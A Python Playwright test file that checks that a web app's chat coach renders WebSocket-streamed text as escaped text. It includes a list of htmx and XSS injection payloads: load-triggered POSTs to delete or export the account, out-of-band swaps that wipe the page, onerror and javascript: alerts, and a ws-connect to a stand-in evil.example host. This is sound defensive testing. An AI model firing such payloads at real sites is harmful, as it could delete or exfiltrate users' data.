"""What the coach says, whoever wrote it, is text: in the real page, through the socket's frames, whole or cut
into sentences anywhere."""

from __future__ import annotations

import uuid

import pytest
from playwright.sync_api import Page, Route, WebSocketRoute

from coach.models import Turn, TurnEvent
from coach.rendering import fragment
from coach.replies.parts import Sentence
from tests.lessons.test_markdown import PAYLOADS

LESSON = "/courses/agent-latency/parallel-execution/"
HTMX = [
    '<b hx-post="/me/delete/" hx-trigger="load">x</b>',
    '<b data-hx-get="/me/export/" data-hx-trigger="load">x</b>',
    '<div hx-swap-oob="innerHTML:body">x</div>',
    '</span><template><i hx-swap-oob="delete:#coach"></i></template>',
    '<div hx-on:load="alert(1)"></div>',
    '<div hx-ext="ws" ws-connect="wss://evil.example/x"></div>',
]
ORACLE = """() => [...document.querySelectorAll(
    ".coach-turn:not([data-real]) :is(.coach-text, .coach-question) *")]
  .map((element) => element.localName).filter((name) => !["p", "span"].includes(name))"""


def frames_of(text: str, cut: int | None = None) -> tuple[list[str], str]:
    """A turn that says `text`, in one sentence or in two; what the learner asked is the same text."""
    turn = Turn(uuid=uuid.uuid4(), number=1, kind=Turn.Kind.ANSWER, state=Turn.State.RUNNING, question=text)
    pieces = [text] if cut is None else [text[:cut], text[cut:]]
    events = [TurnEvent(seq=1, kind=TurnEvent.Kind.BEGUN, payload={})]
    for seq, piece in enumerate(pieces, start=2):
        said = Sentence(text=piece, opens=seq == 2).to_dict()
        events.append(TurnEvent(seq=seq, kind=TurnEvent.Kind.SENTENCE, payload=said))
    events.append(
        TurnEvent(seq=len(events) + 1, kind=TurnEvent.Kind.STATUS, payload={"text": text}),
    )
    return [fragment(turn, event) for event in events], f"#turn-{turn.uuid}"


@pytest.fixture
def said(page: Page):
    """Sends frames to the page as its server would; gives what was asked for meanwhile."""
    sockets: list[WebSocketRoute] = []

    def keep(cable: WebSocketRoute) -> None:
        sockets.append(cable)

    page.route_web_socket("**/ws/coach/", keep)
    page.goto(LESSON)
    page.get_by_label("Ask the coach").fill("What is slack?")
    page.locator("#coach-send").click()
    page.locator("[ws-connect]").wait_for(state="attached")
    page.evaluate("() => { window.alert = () => { window.ran = true } }")
    while not sockets:
        page.wait_for_timeout(50)
    # The answer to the question that connected the page may be there already, with a link of the coach's own.
    page.evaluate(
        "() => document.querySelectorAll('.coach-turn').forEach((turn) => { turn.dataset.real = '' })"
    )

    def say(texts: list[tuple[str, int | None]]) -> list[str]:
        asked: list[str] = []

        def refuse(route: Route) -> None:
            asked.append(route.request.url)
            route.abort()

        page.route("**/*", refuse)
        last = ""
        for text, cut in texts:
            frames, last = frames_of(text, cut)
            for frame in frames:
                sockets[-1].send(frame)
        page.locator(last).wait_for(state="attached")
        page.wait_for_timeout(100)
        page.unroute("**/*", refuse)
        return asked

    return say


def assert_only_text(page: Page) -> None:
    assert page.evaluate(ORACLE) == []
    assert not page.evaluate("() => Boolean(window.ran)")
    assert page.locator("#coach-turns").count() == 1


def test_coach_text_of_any_payload_is_text_and_asks_for_nothing(page: Page, said, errors):
    asked = said([(payload, None) for payload in [*PAYLOADS, *HTMX] if payload.isprintable()])
    assert asked == []
    assert_only_text(page)
    shown = page.locator(".coach-text").all_inner_texts()
    assert any("<script>alert(1)</script>" in text for text in shown)


def test_coach_text_cut_anywhere_is_text(page: Page, said, errors):
    texts = [HTMX[0], HTMX[3], "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))"]
    for text in texts:
        assert said([(text, cut) for cut in range(1, len(text))]) == []
    assert_only_text(page)


def test_coach_text_oracle_finds_what_unescaped_text_does(page: Page, said, errors):
    """The control: the same payload as markup is found by the same oracle."""
    said([("x", None)])
    said_here = ".coach-turn:not([data-real]) .coach-text"
    page.locator(said_here).evaluate("(text) => { text.innerHTML = '<b>x</b>' }")
    assert page.evaluate(ORACLE) == ["b"]
